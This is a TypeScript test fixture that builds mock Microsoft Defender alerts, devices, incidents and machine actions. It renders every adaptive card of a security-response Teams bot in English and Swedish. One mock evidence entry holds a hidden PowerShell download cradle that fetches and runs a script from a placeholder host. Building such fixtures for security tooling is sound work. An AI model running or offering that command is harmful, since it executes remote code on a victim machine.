/** Realistic Defender entities and every card rendered from them, shared by the card tests and the screenshot script. */
import type { Attachment } from 'botbuilder';
import { viewContext } from '../../src/cards/format';
import { fill, stringsForLocale } from '../../src/cards/strings';
import { RELEASE_REMINDERS } from '../../src/config';
import { renderCard, type CardName } from '../../src/cards/render';
import {
  approvalView, isolatedView, releaseReminderView, type IsolatedDevice,
  actionStatusView, auditView, alertListView, alertTriageView, alertView, blockIndicatorView, indicatorView, permissionsView, buttonTitles, confirmActionView, deviceChoicesView, deviceView, actionsView, helpView,
  messageView, incidentListView, incidentView, huntView, digestView, type DigestEntry, type CardAction, type CardRefresh,
} from '../../src/cards/views';
import type { Incident } from '../../src/graph/model';
import { confirmationOf } from '../../src/bot/responses/definition';
import { isolate } from '../../src/bot/responses/definitions/isolate';
import type { IsolationState } from '../../src/defender/isolation';
import type { Alert, AlertEvidence, Machine, MachineAction } from '../../src/defender/model';

export const NOW = new Date('2024-05-01T15:00:00Z');
export const LOCALES = ['en-US', 'sv-SE'] as const;

// ---------------------------------------------------------------- realistic Defender entities

export function evidence(entityType: string, fields: Partial<AlertEvidence> = {}): AlertEvidence {
  return {
    entityType, evidenceCreationTime: '2024-05-01T11:58:03.1234567Z', sha1: null, sha256: null, fileName: null, filePath: null,
    processId: null, processCommandLine: null, processCreationTime: null, parentProcessId: null, parentProcessCreationTime: null,
    parentProcessFileName: null, parentProcessFilePath: null, ipAddress: null, url: null, registryKey: null, registryHive: null,
    registryValueType: null, registryValue: null, accountName: null, domainName: null, userSid: null, aadUserId: null,
    userPrincipalName: null, detectionStatus: 'Detected', ...fields,
  };
}

export function alert(fields: Partial<Alert> = {}): Alert {
  return {
    id: 'da638500125839210000_-1234567890', incidentId: 4711, investigationId: null, assignedTo: 'alice@contoso.onmicrosoft.com',
    severity: 'High', status: 'New', classification: null, determination: null, investigationState: 'Running',
    detectionSource: 'WindowsDefenderAtp', detectorId: '7f1c3609-a3ff-40e2-995b-c01770161d68', category: 'CommandAndControl',
    threatFamilyName: null, threatName: null, title: 'Suspicious PowerShell download cradle',
    description: 'A PowerShell process downloaded and ran a script from an uncommon host.',
    alertCreationTime: '2024-05-01T12:00:00.1234567Z', firstEventTime: '2024-05-01T11:58:00Z', lastEventTime: '2024-05-01T11:59:00Z',
    lastUpdateTime: '2024-05-01T14:30:00Z', resolvedTime: null, machineId: 'a'.repeat(40), computerDnsName: 'pc-finance-07.contoso.local',
    rbacGroupName: 'Finance', aadTenantId: '11111111-2222-3333-4444-555555555555', mitreTechniques: ['T1059.001', 'T1105'],
    relatedUser: { userName: 'frank', domainName: 'CONTOSO' }, loggedOnUsers: [{ accountName: 'frank', domainName: 'CONTOSO' }],
    comments: [],
    evidence: [
      evidence('Process', { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', processId: 4242,
        processCommandLine: 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"' }),
      evidence('File', { fileName: 'a.ps1', filePath: 'C:\\Users\\frank\\AppData\\Local\\Temp', sha1: 'f'.repeat(40) }),
      evidence('User', { accountName: 'frank', domainName: 'CONTOSO' }),
      evidence('Ip', { ipAddress: '203.0.113.9' }),
    ],
    domains: [], ...fields,
  };
}

export function incident(fields: Partial<Incident> = {}): Incident {
  return {
    id: '42',
    displayName: 'Multi-stage incident involving Execution on pc-finance-07',
    severity: 'high',
    status: 'active',
    assignedTo: 'bob@contoso.com',
    classification: 'truePositive',
    determination: 'malware',
    createdDateTime: '2024-05-01T12:00:00Z',
    lastUpdateDateTime: '2024-05-01T14:30:00Z',
    incidentWebUrl: 'https://security.microsoft.com/incidents/42?tid=7f3c1a52-9d4e-4b8a-a1c6-2e5f80d4b913',
    alerts: [
      { id: 'da1', title: "'Mimikatz' credential theft tool", severity: 'high', status: 'new', createdDateTime: '2024-05-01T12:00:00Z', evidence: [
        { '@odata.type': '#microsoft.graph.security.deviceEvidence', deviceDnsName: 'pc-finance-07.contoso.local' },
        { '@odata.type': '#microsoft.graph.security.userEvidence', userAccount: { accountName: 'bob', domainName: 'CONTOSO' } },
      ] },
      { id: 'da2', title: 'Suspicious PowerShell command line', severity: 'medium', status: 'inProgress', createdDateTime: '2024-05-01T12:05:00Z', evidence: [
        { '@odata.type': '#microsoft.graph.security.deviceEvidence', deviceDnsName: 'pc-finance-08.contoso.local' },
      ] },
    ],
    ...fields,
  };
}

export function machine(fields: Partial<Machine> = {}): Machine {
  return {
    id: 'a'.repeat(40), computerDnsName: 'pc-finance-07.contoso.local', firstSeen: '2023-01-10T08:00:00Z', lastSeen: '2024-05-01T12:00:00Z',
    osPlatform: 'Windows11', osVersion: null, version: '23H2', osProcessor: 'x64', osArchitecture: '64-bit', osBuild: 22631,
    agentVersion: '10.8470.22621.1023', lastIpAddress: '10.1.7.23', lastExternalIpAddress: '198.51.100.20',
    ipAddresses: [
      { ipAddress: '10.1.7.23', macAddress: '00155D0A0B0C', type: 'Ethernet', operationalStatus: 'Up' },
      { ipAddress: 'fe80::1c2d:3e4f:5a6b:7c8d', macAddress: '00155D0A0B0C', type: 'Ethernet', operationalStatus: 'Up' },
      { ipAddress: '127.0.0.1', macAddress: null, type: 'SoftwareLoopback', operationalStatus: 'Up' },
      { ipAddress: '192.168.56.1', macAddress: '0A0027000011', type: 'Ethernet', operationalStatus: 'Down' },
    ],
    healthStatus: 'Active', onboardingStatus: 'Onboarded', riskScore: 'High', exposureLevel: 'Medium', deviceValue: 'High',
    rbacGroupId: 103, rbacGroupName: 'Finance', isAadJoined: true, aadDeviceId: null, machineTags: ['finance', 'vip'],
    defenderAvStatus: 'Updated', managedBy: 'Intune', managedByStatus: 'Managed', isPotentialDuplication: false, isExcluded: false,
    exclusionReason: null, mergedIntoMachineId: null, vmMetadata: null, ...fields,
  };
}

export function machineAction(fields: Partial<MachineAction> = {}): MachineAction {
  return {
    id: '8af71966-1b7c-4d1e-a5c2-0c0e4a9d7f10', type: 'Isolate', title: null, scope: 'Full', requestor: 'alice@contoso.onmicrosoft.com',
    requestorComment: 'Isolating: alert 4711, C2 beaconing', status: 'Succeeded', machineId: 'a'.repeat(40),
    computerDnsName: 'pc-finance-07.contoso.local', creationDateTimeUtc: '2024-05-01T12:00:00.8785235Z',
    lastUpdateDateTimeUtc: '2024-05-01T12:04:10.1000000Z', cancellationRequestor: null, cancellationComment: null,
    cancellationDateTimeUtc: null, errorHResult: 0, externalId: null, requestSource: 'PublicApi', relatedFileInfo: null, commands: [],
    troubleshootInfo: null, ...fields,
  };
}

export function isolated(action = machineAction()): IsolationState {
  return { isolated: true, scope: 'Full', pending: null, last: action };
}

/** A button as the bot makes them: signed data with a nested params object. */
export function button(title: string, verb: string, params: Record<string, string>, style?: CardAction['style']): CardAction {
  return { title, verb, data: { p: params, c: '19:abc@thread.tacv2', t: 1714575600, s: `sig-${verb}-${Object.values(params).join('-')}` }, ...(style ? { style } : {}) };
}

export const REFRESH: CardRefresh = { verb: 'device.refresh', data: { p: { machineId: 'a'.repeat(40) }, c: '19:abc', t: 1714575600, s: 'sig' }, userIds: ['29:alice', '29:bob'] };

// ---------------------------------------------------------------- every card, both locales

export const isolateButton = button('Isolate device', 'isolate.ask', { machineId: 'a'.repeat(40), back: 'device' }, 'destructive');
export const releaseButton = button('Release from isolation', 'release.ask', { machineId: 'a'.repeat(40), back: 'device' }, 'positive');

/** Approve and Deny as the bot titles them in a locale. */
function approvalButtons(locale: string): CardAction[] {
  const strings = stringsForLocale(locale).approvals;
  return [
    button(strings.approve, 'isolate.approve', { approvalId: 'f'.repeat(36) }, 'positive'),
    button(strings.deny, 'isolate.deny', { approvalId: 'f'.repeat(36) }, 'destructive'),
  ];
}

/** Release… and Extend as the bot titles them in a locale. */
function reminderButtons(locale: string): CardAction[] {
  const strings = stringsForLocale(locale).ledger;
  return [
    button(strings.release, 'release.ask', { machineId: 'c'.repeat(40), back: 'device' }, 'positive'),
    ...[4, 24].map((hours) => button(strings.extend.replace('{hours}', String(hours)), 'isolation.extend', { machineId: 'c'.repeat(40), actionId: 'f'.repeat(36), hours: String(hours) })),
  ];
}

/** Two isolated devices: one through the bot (approved, with a reminder), one from the portal. */
function isolatedDevices(open: string): IsolatedDevice[] {
  return [
    {
      device: 'dc-01.contoso.local', scope: 'Selective', since: '2024-05-01T13:00:00Z', by: 'bob@contoso.com',
      ledger: { approvedBy: 'alice@contoso.com', remindAt: '2024-05-01T17:00:00Z', reminded: false },
      open: button(open, 'device.open', { machineId: 'c'.repeat(40) }),
    },
    { device: 'pc-finance-07.contoso.local', scope: 'Full', since: '2024-04-29T09:30:00Z', by: 'automation@contoso.com', open: button(open, 'device.open', { machineId: 'a'.repeat(40) }) },
  ];
}

const digestShowAll = button('List all alerts', 'digest.alerts', { digestId: '19:abc@thread.tacv2/1714574460000', page: '1' });

/** A phishing wave: 240 alerts on 60 devices under a few titles, the newest first. */
export function stormEntries(): DigestEntry[] {
  const titles = ['Suspicious URL clicked', 'A potentially malicious URL click was detected', 'Email messages containing malicious URL removed after delivery', 'Suspicious Office macro'];
  return Array.from({ length: 240 }, (_, index) => ({
    id: `da63850012583921${String(1000 + index)}_-1234567890`,
    title: titles[index % 7 === 0 ? 3 : index % 3],
    severity: index % 5 === 0 ? 'Low' : 'Medium',
    device: `pc-sales-${String(index % 60).padStart(2, '0')}.contoso.local`,
    status: index % 11 === 0 ? 'Resolved' : 'New',
    createdAt: new Date(Date.parse('2024-05-01T14:59:00Z') - index * 5_000).toISOString(),
  }));
}

/** Every card with realistic data in a locale, with the buttons (titled in that locale, as the bot does) and refresh it was given. */
export function everyCard(locale: string): Record<CardName, { card: Attachment; buttons: CardAction[]; refresh?: CardRefresh }> {
  const context = viewContext(locale, NOW);
  const titles = buttonTitles(locale);
  const release = { ...releaseButton, title: titles.release };
  const openButtons = [alert(), alert({ id: 'da2', severity: 'Low', status: 'InProgress', title: 'Unwanted software' })]
    .map((item) => ({ alert: item, open: button(titles.open, 'alert.open', { alertId: item.id }) }));
  const machines = [machine(), machine({ id: 'b'.repeat(40), computerDnsName: 'pc-finance-08.contoso.local', healthStatus: 'Inactive' })];
  const choices = machines.map((item) => ({ machine: item, open: button(titles.open, 'device.open', { machineId: item.id }) }));
  const confirm = button(titles.confirmIsolate, 'isolate.confirm', { machineId: 'a'.repeat(40) }, 'destructive');
  const cancel = button(titles.cancel, 'response.cancel', { machineId: 'a'.repeat(40), back: 'device' });
  const { responses } = context.strings;
  const onDevice = { machineId: 'a'.repeat(40), back: 'device' };
  const deviceButtons = [
    release, button(responses.restrict.button, 'restrict.ask', onDevice, 'destructive'), button(responses.collect.button, 'collect.ask', onDevice),
  ];
  const quarantine = button(fill(responses.quarantine.button, { file: 'a.ps1' }), 'quarantine.ask', {
    machineId: 'a'.repeat(40), back: 'alert', alertId: alert().id, sha1: 'f'.repeat(40),
  }, 'destructive');
  const download = responses.collect.download;
  const downloadAgain = button(download.again, 'collect.result', { actionId: 'x3', device: 'pc-finance-07.contoso.local' });
  const assignToMe = button('Assign to me', 'incident.assign', { incidentId: '42' });
  const classify = button('Classify', 'incident.classify', { incidentId: '42' }, 'positive');
  const triageSave = button(context.strings.triage.save, 'alert.triage.save', { alertId: alert().id }, 'positive');
  const triageCancel = button(titles.cancel, 'alert.refresh', { alertId: alert().id });
  const indicatorConfirm = button(context.strings.indicators.confirm, 'indicator.confirm', { alertId: alert().id }, 'destructive');
  const history = [machineAction(), machineAction({ id: 'x2', type: 'RunAntiVirusScan', scope: 'Quick', status: 'InProgress' })];
  return {
    help: { card: renderCard('help', helpView({ didYouMean: 'alerts' }, context), locale), buttons: [] },
    'alert-list': {
      card: renderCard('alert-list', alertListView({ items: openButtons, filter: { severities: ['High'], statuses: ['New', 'InProgress'], mine: true } }, context), locale),
      buttons: openButtons.map((item) => item.open),
    },
    alert: {
      card: renderCard('alert', alertView({ alert: alert(), isolation: isolated(), buttons: [release, quarantine], refresh: REFRESH }, context), locale),
      buttons: [release, quarantine], refresh: REFRESH,
    },
    'alert-triage': {
      card: renderCard('alert-triage', alertTriageView({
        alert: alert({ classification: 'TruePositive', determination: 'Malware' }), save: triageSave, cancel: triageCancel,
      }, context), locale),
      buttons: [triageSave, triageCancel],
    },
    'block-indicator': {
      card: renderCard('block-indicator', blockIndicatorView({
        candidates: [{ value: 'f'.repeat(64), type: 'FileSha256' }, { value: '203.0.113.9', type: 'IpAddress' }, { value: 'http://203.0.113.9/a', type: 'Url' }],
        action: 'Block', hours: 720, comment: 'Payload host of the download cradle', alertTitle: alert().title, confirm: indicatorConfirm, cancel: triageCancel,
      }, context), locale),
      buttons: [indicatorConfirm, triageCancel],
    },
    indicator: {
      card: renderCard('indicator', indicatorView({
        value: '203.0.113.9', type: 'IpAddress', action: 'Block', expires: '2024-05-31 15:00 UTC', upn: 'bob@contoso.com', comment: 'Payload host of the download cradle',
      }, context), locale),
      buttons: [],
    },
    permissions: {
      card: renderCard('permissions', permissionsView({
        upn: 'bob@contoso.com', defender: 'Alert.ReadWrite, Machine.Isolate, Machine.Read, Machine.Scan', graph: 'SecurityIncident.Read.All, ThreatHunting.Read.All',
        app: 'Alert.Read.All, Machine.Read.All', groups: '"Workstations"',
        can: ['Read alerts: Alert.ReadWrite; Defender also needs your role to grant "View Data"', 'Isolate device: Machine.Isolate; Defender also needs your role to grant "Active remediation actions"'],
        cannot: ['Block indicator: the bot lacks the app permission Ti.ReadWrite (an admin grants it)'],
      }, context), locale),
      buttons: [],
    },
    device: {
      card: renderCard('device', deviceView({
        machine: machine(), isolation: isolated(), recentActions: history, openAlerts: [alert()], buttons: deviceButtons, refresh: REFRESH,
      }, context), locale),
      buttons: deviceButtons, refresh: REFRESH,
    },
    'confirm-action': {
      card: renderCard('confirm-action', confirmActionView({
        ...confirmationOf(isolate, context.strings, { comment: 'C2 beaconing' }), machine: machine(), confirm, cancel,
        reminder: { id: 'releaseReminder', values: RELEASE_REMINDERS, value: '24h' },
      }, context), locale),
      buttons: [confirm, cancel],
    },
    'action-status': {
      card: renderCard('action-status', actionStatusView({ action: machineAction(), requestorName: 'Alice Admin', buttons: [release], refresh: REFRESH }, context), locale),
      buttons: [release], refresh: REFRESH,
    },
    actions: { card: renderCard('actions', actionsView({ device: 'pc-finance-07.contoso.local', actions: history }, context), locale), buttons: [] },
    'device-choices': {
      card: renderCard('device-choices', deviceChoicesView({ query: 'pc-finance', ambiguous: true, choices }, context), locale),
      buttons: choices.map((choice) => choice.open),
    },
    // The investigation package's link, as only its clicker sees it: the message card with a link.
    message: {
      card: renderCard('message', messageView({
        kind: 'info', title: fill(download.title, { device: 'pc-finance-07.contoso.local' }), text: download.text,
        links: [{ title: download.open, url: 'https://userrequests-us.securitycenter.windows.com/safedownload/WDATP_Investigation_Package.zip?token=sample' }],
        buttons: [downloadAgain],
      }, context), locale),
      buttons: [downloadAgain],
    },
    'incident-list': {
      card: renderCard('incident-list', incidentListView({
        items: [incident(), incident({ id: '43', severity: 'low', status: 'resolved', assignedTo: null })]
          .map((item) => ({ incident: item, open: button(titles.open, 'incident.open', { incidentId: item.id }) })),
        filter: { severities: ['high'], statuses: ['active'], mine: true },
      }, context), locale),
      buttons: [button(titles.open, 'incident.open', { incidentId: '42' }), button(titles.open, 'incident.open', { incidentId: '43' })],
    },
    incident: {
      card: renderCard('incident', incidentView({
        incident: incident(), openAlert: (alertId) => button(titles.open, 'alert.open', { alertId }), buttons: [assignToMe],
        classify, refresh: REFRESH,
      }, context), locale),
      buttons: [button(titles.open, 'alert.open', { alertId: 'da2' }), button(titles.open, 'alert.open', { alertId: 'da1' }), classify, assignToMe],
      refresh: REFRESH,
    },
    hunt: {
      card: renderCard('hunt', huntView({
        query: 'DeviceLogonEvents | where DeviceName startswith "pc-finance-07" and Timestamp > ago(24h) | project Timestamp, DeviceName, AccountName, LogonType',
        result: {
          schema: [{ Name: 'Timestamp', Type: 'DateTime' }, { Name: 'DeviceName', Type: 'String' }, { Name: 'AccountName', Type: 'String' }, { Name: 'LogonType', Type: 'String' }],
          results: Array.from({ length: 12 }, (_, index) => ({
            Timestamp: `2024-05-01T${String(10 + (index % 10)).padStart(2, '0')}:00:00Z`, DeviceName: 'pc-finance-07.contoso.local',
            AccountName: index % 2 ? 'bob' : 'svc-backup', LogonType: index % 3 ? 'Interactive' : 'Network',
          })),
        },
      }, context), locale),
      buttons: [],
    },
    approval: {
      card: renderCard('approval', approvalView({
        state: 'pending', action: { type: 'Isolate', scope: 'Full' }, device: 'dc-01.contoso.local', requester: 'bob@contoso.com',
        requestedAt: '2024-05-01T14:55:00Z', comment: 'Beaconing to a known C2 address', expiresAt: '2024-05-01T15:25:00Z',
        reasons: [{ kind: 'deviceValue' }, { kind: 'tag', name: 'DomainController' }], buttons: approvalButtons(locale),
      }, context), locale),
      buttons: approvalButtons(locale),
    },
    isolated: {
      card: renderCard('isolated', isolatedView({ items: isolatedDevices(titles.open) }, context), locale),
      buttons: isolatedDevices(titles.open).map((item) => item.open),
    },
    'release-reminder': {
      card: renderCard('release-reminder', releaseReminderView({
        device: 'dc-01.contoso.local', requester: { teamsUserId: '29:bob', name: 'Bob Responder' }, requestedAt: '2024-05-01T11:00:00Z',
        comment: 'Beaconing to a known C2 address', buttons: reminderButtons(locale),
      }, context), locale),
      buttons: reminderButtons(locale),
    },
    digest: {
      card: renderCard('digest', digestView({
        entries: stormEntries(), startedAt: '2024-05-01T14:41:00Z', endedAt: null, bypassSeverity: 'High',
        open: (entry) => button(titles.open, 'alert.open', { alertId: entry.id }), showAll: digestShowAll,
      }, context), locale),
      buttons: [...stormEntries().slice(0, 5).map((entry) => button(titles.open, 'alert.open', { alertId: entry.id })), digestShowAll],
    },
    audit: {
      card: renderCard('audit', auditView({ device: 'pc-finance-07.contoso.local', entries: [
        { time: '2024-05-01T11:00:00Z', upn: 'bob@contoso.com', computerDnsName: 'pc-finance-07.contoso.local', action: 'Isolate', comment: 'C2 beaconing', result: 'Succeeded' },
        { time: '2024-05-01T10:00:00Z', upn: 'carol@contoso.com', computerDnsName: 'pc-finance-07.contoso.local', action: 'Unisolate', comment: 'oops', result: 'refused' },
      ] }, context), locale),
      buttons: [],
    },
  };
}
